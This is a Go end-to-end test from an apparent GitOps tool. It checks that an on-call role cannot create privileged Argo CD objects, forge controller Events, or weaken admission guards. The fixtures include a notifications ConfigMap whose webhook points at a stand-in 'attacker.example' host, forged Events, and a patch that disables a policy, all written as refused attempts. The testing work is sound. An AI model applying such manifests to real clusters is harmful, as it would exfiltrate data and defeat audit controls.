//go:build e2e

package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kubectl-gitops/kubectl-gitops/breakglass"
	"github.com/kubectl-gitops/kubectl-gitops/test/env"
)

// TestRolesAreLeastPrivilege: the shipped roles with their policies let
// on-call create, in the audit log's namespace, only audit records and
// the head (not a missing argocd-notifications-cm), never an Event in the
// controller's name, and no Application, AppProject or ApplicationSet.
func TestRolesAreLeastPrivilege(t *testing.T) {
	core(t)
	apiOnly(t)
	environment(t)
	oncall := newUser(t, env.Oncall.Name)
	dir := t.TempDir()
	try := func(what, manifest, want string) {
		t.Helper()
		path := filepath.Join(dir, strings.ReplaceAll(what, " ", "-")+".yaml")
		if err := os.WriteFile(path, []byte(manifest), 0o600); err != nil {
			t.Fatal(err)
		}
		_, errOut, code := oncall.run("kubectl", "create", "-f", path)
		if code == 0 || !strings.Contains(errOut, want) {
			t.Errorf("on-call creating %s: exit %d, %q, want %q", what, code, errOut, want)
		}
	}
	try("a notifications ConfigMap", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: argocd-notifications-cm\n  namespace: argocd\ndata:\n  service.webhook.x: 'url: http://attacker.example'\n",
		"in the audit log namespace the break-glass, auditor and reviewer roles create only audit records and the head")
	event := func(component string) string {
		return "apiVersion: v1\nkind: Event\nmetadata:\n  generateName: forged-\n  namespace: argocd\ninvolvedObject:\n  apiVersion: argoproj.io/v1alpha1\n  kind: Application\n  name: web\n  namespace: argocd\nreason: Restored\nmessage: restored by the controller\ntype: Normal\nsource:\n  component: " + component + "\nreportingComponent: " + component + "\nreportingInstance: x\n"
	}
	try("an Event in the controller's name", event("kubectl-gitops-controller"), "only the kubectl gitops controller reports Events as kubectl-gitops-controller")
	for _, kind := range []string{"Application", "AppProject", "ApplicationSet"} {
		try("an "+kind, "apiVersion: argoproj.io/v1alpha1\nkind: "+kind+"\nmetadata:\n  name: forged\n  namespace: argocd\nspec: {}\n", "forbidden")
	}
	// The tool's own Events are the user's: on-call may write one, which
	// is why README says to trust the controller's alone.
	// The pause's guard: on-call reads it by name (a break-glass checks it
	// is in force), and can neither change nor remove it, nor read others.
	guard := breakglass.PauseGuardPolicy
	oncall.kubectl("get", "validatingadmissionpolicy", guard)
	oncall.kubectl("get", "validatingadmissionpolicybinding", guard)
	for _, args := range [][]string{
		{"delete", "validatingadmissionpolicybinding", guard},
		{"patch", "validatingadmissionpolicy", guard, "--type=merge", "-p", `{"spec":{"failurePolicy":"Ignore"}}`},
		{"get", "validatingadmissionpolicy", "kubectl-gitops-breakglass-applications"},
		{"get", "validatingadmissionpolicybindings"},
	} {
		if _, errOut, code := oncall.run("kubectl", args...); code == 0 || !strings.Contains(errOut, "forbidden") {
			t.Errorf("on-call: kubectl %s: exit %d, %q, want forbidden", strings.Join(args, " "), code, errOut)
		}
	}
	path := filepath.Join(dir, "own-event.yaml")
	if err := os.WriteFile(path, []byte(event("kubectl-gitops")), 0o600); err != nil {
		t.Fatal(err)
	}
	oncall.kubectl("create", "-f", path)
}
